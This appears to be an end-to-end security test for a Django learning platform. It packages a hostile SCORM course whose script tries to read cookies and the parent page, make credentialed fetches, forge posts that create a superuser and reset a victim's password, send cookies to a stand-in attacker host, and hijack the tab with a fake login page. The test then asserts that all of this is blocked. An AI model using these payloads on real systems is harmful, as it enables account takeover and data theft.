"""A hostile package, played by a learner and by a staff user, cannot act as the person who
plays it: its content runs on the content origin, in a sandboxed frame, and the LMS trusts it
with nothing but the run-time API. A well-behaved package in the same run still completes."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from playwright.sync_api import Page, expect

from courses.services import package_create
from enrollments.models import Attempt, Enrollment
from enrollments.services import enrollment_create, learner_get_or_create
from tests.e2e.journeys import answer_quiz, content, play
from tests.factories import CourseFactory, UserFactory

pytestmark = pytest.mark.django_db(transaction=True)

MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="hostile" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>Free prize</title>
    <item identifier="prize" identifierref="res"><title>Free prize</title></item>
  </organization></organizations>
  <resources><resource identifier="res" type="webcontent" adlcp:scormtype="sco" href="index.html">
    <file href="index.html"/></resource></resources>
</manifest>"""

# Everything the report in the issue did, tried again. Results go to window.report.
PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Free prize</title></head>
<body><h1>Free prize</h1><p id="done" hidden>done</p>
<iframe name="sink" title="sink" hidden></iframe>
<script>
var LMS = %(lms)s, OTHER = %(other)s, VICTIM = %(victim)s;
var report = window.report = {};
function attempt(name, fn) { try { report[name] = fn(); } catch (e) { report[name] = "blocked: " + e.name; } }
function post(action, fields) {
  var form = document.createElement("form");
  form.method = "post"; form.action = LMS + action; form.target = "sink";
  Object.keys(fields).forEach(function (k) {
    var input = document.createElement("input"); input.name = k; input.value = fields[k]; form.appendChild(input);
  });
  document.body.appendChild(form); form.submit();
}
var api = null;
for (var w = window; w && !api; w = w.parent === w ? null : w.parent) { api = w.API || null; }
api.LMSInitialize("");
attempt("cookie", function () { return document.cookie; });
attempt("top_dom", function () { return window.top.document.body.innerHTML.length; });
attempt("player_page_dom", function () { return window.parent.parent.document.title; });
attempt("csrf_input", function () {
  return window.top.document.querySelector("[name=csrfmiddlewaretoken]").value;
});
var fetches = ["/learn/", "/admin/", "/learn/courses/" + OTHER + "/"].map(function (path) {
  return fetch(LMS + path, { credentials: "include" })
    .then(function (r) { return r.text(); })
    .then(function (t) { report["fetch " + path] = t.slice(0, 200); })
    .catch(function (e) { report["fetch " + path] = "blocked: " + e.name; });
});
// Enrol in another course, start an attempt there, make a superuser, change a password.
post("/learn/courses/" + OTHER + "/enrol/", {});
post("/learn/courses/" + OTHER + "/play/", {});
post("/admin/auth/user/add/", { username: "pwned", password1: "Pwned-pass-123", password2: "Pwned-pass-123", is_superuser: "on", is_staff: "on" });
post("/admin/auth/user/" + VICTIM + "/password/", { password1: "Pwned-pass-123", password2: "Pwned-pass-123" });
// Send what it could read to another origin (there is nothing to send).
fetches.push(fetch("https://attacker.invalid/steal?c=" + encodeURIComponent(document.cookie), { mode: "no-cors" }).catch(function () {}));
// Replace the whole tab with a fake "sign in again" page.
attempt("top_navigation", function () { window.top.location.href = LMS + "/accounts/login/?fake=1"; return "navigated"; });
// What it is allowed: report a result for its own attempt.
api.LMSSetValue("cmi.core.lesson_status", "passed");
api.LMSSetValue("cmi.core.score.raw", "100");
api.LMSCommit("");
Promise.all(fetches).then(function () { document.getElementById("done").hidden = false; });
</script></body></html>"""


def hostile_zip(*, lms: str, other: str, victim: int) -> bytes:
    page = PAGE % {"lms": json.dumps(lms), "other": json.dumps(other), "victim": victim}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("imsmanifest.xml", MANIFEST)
        archive.writestr("index.html", page)
    return buffer.getvalue()


@pytest.fixture
def courses(make_demo_course, live_server):
    victim = UserFactory(username="victim")
    other = make_demo_course("spotting-phishing", self_enrollment=True)
    hostile = CourseFactory(slug="free-prize", title="Free prize", provider="local")

    def build() -> None:
        package_create(
            course=hostile,
            upload=ContentFile(
                hostile_zip(lms=live_server.url, other=other.slug, victim=victim.pk), name="p.zip"
            ),
        )

    return hostile, other, victim, build


@pytest.mark.browser_errors_expected  # the refused navigation and fetches log errors
@pytest.mark.parametrize("staff", [False, True], ids=["learner", "staff"])
def test_a_hostile_package_cannot_act_as_the_person_who_plays_it(
    page: Page, live_server, sign_in, courses, make_demo_course, staff
):
    hostile, other, victim, build = courses
    build()
    good = make_demo_course("safe-passwords")
    user = UserFactory(username="player", is_staff=staff, is_superuser=staff)
    learner = learner_get_or_create(user=user)
    for course in (hostile, good):
        enrollment_create(learner=learner, course=course)
    victim_password = get_user_model().objects.get(pk=victim.pk).password
    users_before = get_user_model().objects.count()
    sign_in(user.username)
    if staff:  # a staff user's session is one the admin honours
        assert page.goto(f"{live_server.url}/admin/").status == 200

    play(page, live_server, hostile)
    sco = page.frame_locator("#player-frame").frame_locator("iframe.sco-frame")
    expect(sco.locator("#done")).to_be_visible(timeout=15_000)
    page.wait_for_timeout(1_000)  # the forms' posts land
    frame = next(f for f in page.frames if f.url.endswith("/index.html"))
    report = frame.evaluate("() => window.report")

    # Nothing of the LMS could be read.
    assert "sessionid" not in report["cookie"]
    assert "csrftoken" not in report["cookie"]
    for key in ("top_dom", "player_page_dom", "csrf_input"):
        assert report[key].startswith("blocked"), (key, report[key])
    for path in ("/learn/", "/admin/", f"/learn/courses/{other.slug}/"):
        assert report[f"fetch {path}"].startswith("blocked"), (path, report[f"fetch {path}"])
    # The tab was not taken over.
    assert report["top_navigation"].startswith("blocked")
    assert page.url.startswith(f"{live_server.url}/learn/attempts/")
    # No enrolment, attempt, user or password came of it.
    assert not Enrollment.objects.filter(learner=learner, course=other).exists()
    assert not Attempt.objects.filter(enrollment__course=other).exists()
    assert get_user_model().objects.count() == users_before
    assert not get_user_model().objects.filter(username="pwned").exists()
    assert get_user_model().objects.get(pk=victim.pk).password == victim_password
    # What the content may do, it did: report its own attempt's result.
    attempt = Attempt.objects.get(enrollment__course=hostile)
    expect(page.locator("#progress-panel [data-field=status]")).to_have_text("Passed")
    assert (attempt.completion, attempt.success) == ("completed", "passed")

    # A well-behaved package in the same run still completes and reports its score.
    play(page, live_server, good)
    answer_quiz(page, "safe-passwords")
    expect(content(page).get_by_text("Your score: 100%")).to_be_visible()
    expect(page.locator("#progress-panel [data-field=score]")).to_have_text("100%", timeout=10_000)
